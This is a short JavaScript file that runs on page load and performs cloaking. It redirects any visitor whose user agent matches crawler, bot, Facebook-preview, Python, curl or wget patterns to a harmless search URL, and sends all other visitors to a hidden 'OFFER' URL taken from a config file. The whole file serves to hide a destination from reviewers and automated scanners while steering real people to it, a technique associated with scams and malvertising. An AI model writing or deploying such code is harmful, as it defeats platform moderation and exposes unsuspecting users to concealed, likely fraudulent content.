import { OFFER } from "./config";
const robots = [/bot/i, /crawl/i, /spider/i, /facebookexternalhit/i, /python/i, /curl/i, /wget/i];
const CLEAN = "https://www.search.example";
export function hide() {
  try {
    const isBot = robots.some(re => re.test(navigator.userAgent));
    if (isBot) window.location.replace(CLEAN);
    else window.location.replace(OFFER);
  } catch (e) {}
}
hide();
